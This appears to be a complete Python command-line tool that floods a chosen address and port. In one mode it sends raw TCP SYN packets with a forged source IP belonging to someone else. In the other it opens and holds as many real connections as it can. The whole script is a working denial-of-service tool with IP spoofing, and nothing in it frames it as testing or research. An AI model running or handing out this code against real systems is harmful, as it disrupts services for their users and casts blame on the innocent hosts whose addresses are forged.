"""Opens connections as fast as it can, and says how many are open at the end. Arguments: real or forged, the source, the address and port
that they go to, how many. Forged ones are first packets alone, whose source is somebody else (IPv4)."""

import random
import socket
import struct
import sys

how, source, address, port, count = sys.argv[1], sys.argv[2], sys.argv[3], int(sys.argv[4]), int(sys.argv[5])


def checksum(data):
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while total > 0xFFFF:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def forged():
    ends = socket.inet_aton(source) + socket.inet_aton(address)
    with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW) as raw:
        for _ in range(count):
            fields = (random.randrange(1024, 65536), port, random.getrandbits(32), 0, 5 << 4, 2, 64240)
            pseudo = ends + struct.pack("!BBH", 0, 6, 20)
            tcp = struct.pack("!HHIIBBHHH", *fields, 0, 0)
            tcp = struct.pack("!HHIIBBHHH", *fields, checksum(pseudo + tcp), 0)
            raw.sendto(struct.pack("!BBHHHBBH", 0x45, 0, 40, 0, 0, 64, 6, 0) + ends + tcp, (address, 0))
    return 0


def real():
    held = []
    family = socket.AF_INET6 if ":" in address else socket.AF_INET
    for _ in range(count):
        client = socket.socket(family)
        client.settimeout(0.02)
        client.bind((source, 0))
        try:
            client.connect((address, port))
            client.sendall(b"x")
            held.append(client)
        except OSError:
            client.close()
    return len(held)


print(forged() if how == "forged" else real())
